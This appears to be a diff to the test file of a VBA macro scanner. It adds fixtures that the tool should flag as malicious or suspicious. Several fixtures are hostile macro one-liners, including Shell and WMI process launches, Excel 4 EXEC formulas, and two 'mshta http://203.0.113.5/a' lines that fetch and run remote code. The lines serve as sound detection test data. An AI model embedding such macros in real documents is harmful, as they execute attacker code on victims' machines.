@@ -3,12 +3,13 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { readBasic } from './basic.ts'
-import { judgeMacros } from './macros.ts'
+import { judgeConcealed, judgeMacros } from './macros.ts'
 
 /** The findings, without the notices, as letters and names: `m AutoProgram`. */
 function judged(text: string): string[] {
   const modules = [{ name: 'a', text }]
-  return judgeMacros({ reading: readBasic(modules), modules, texts: () => [] })
+  const reading = readBasic(modules)
+  return [...judgeMacros({ reading, modules, texts: () => [] }), ...judgeConcealed(reading)]
     .map(({ definition: { severity, id } }) => `${severity.slice(0, 1)} ${id.slice('Docvet.Vba.'.length)}`)
     .filter((found) => !found.startsWith('n '))
 }
@@ -36,8 +37,21 @@ const MALICIOUS: Record<string, string> = {
     'CreateObject("htmlfile").write "<script>new ActiveXObject(\'WScript.Shell\').Run(\'calc\')</script>"',
   'AutoProgram: an item of the control panel': 'CreateObject("Shell.Application").ControlPanelItem "C:\\Data\\a.cpl"',
   'AutoProgram: a statement of a script': 'CreateObject("ScriptControl").ExecuteStatement Range("A1").Value',
+  'AutoProgram: an unknown program without a window': 'Shell a.b, 0',
+  'AutoProgram: an unknown program by an unknown class': 'CreateObject(a.b).Run a.c',
+  'AutoProgram: an unknown program by the service of Windows':
+    'GetObject("winmgmts:Win32_Process").Create a.b, n, s, p',
+  'AutoProgram: an unknown method': 'CallByName CreateObject("WScript.Shell"), a.b, 1, a.c, 0',
+  'AutoProgram: a text of the document': 'Shell "c" & ActiveDocument.Words(1)',
+  'AutoProgram: a procedure and its argument in one text':
+    'Application.OnTime Now, "\'Other ""mshta http://203.0.113.5/a""\'"\nEnd Sub\nSub Other(a)\nShell a',
+  'AutoProgram: a formula for a macro sheet':
+    'Sheets.Add Type:=3\nActiveSheet.Cells(1, 1).Formula = "=EXEC(""mshta http://203.0.113.5/a"")"',
+  'AutoProgram: an unknown formula for a macro sheet': 'Excel4MacroSheets.Add.Range("A1").FormulaLocal = a.b',
 }
 const SUSPICIOUS: Record<string, string> = {
+  'an unknown program in a window': 'Shell a.b, 1',
+  'an unknown folder without a window': 'Shell a.b & "\\tools\\" & a.c, 0',
   'a program of a mapped server of the company':
     'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\fileserver\\apps"\nShell "Z:\\a.exe"',
   'a copy to a server with a name': 'Shell "cmd /c robocopy C:\\Data \\\\fs01.example.com\\backup /mir", vbHide',
@@ -73,9 +87,10 @@ test('a script of the company without its window is harmless by a click', () => 
 })
 
 test('a library is loaded from a folder that the macro chose', () => {
-  const load = (name: string): string =>
-    automatic(`ChDir Environ("TEMP")\nLoadLibraryA "${name}"`, declare('kernel32', 'LoadLibraryA'))
-  assert.deepEqual(judged(load('a.dll')), ['s AutoExecute'])
+  const load = (name: string, folder = 'Environ("TEMP")'): string =>
+    automatic(`ChDir ${folder}\nLoadLibraryA "${name}"`, declare('kernel32', 'LoadLibraryA'))
+  assert.deepEqual(judged(load('a.dll')), ['m AutoProgram'])
+  assert.deepEqual(judged(load('a.dll', 'ThisDocument.Path')), ['s AutoExecute'])
   assert.deepEqual(judged(load('user32.dll')), [])
 })
 
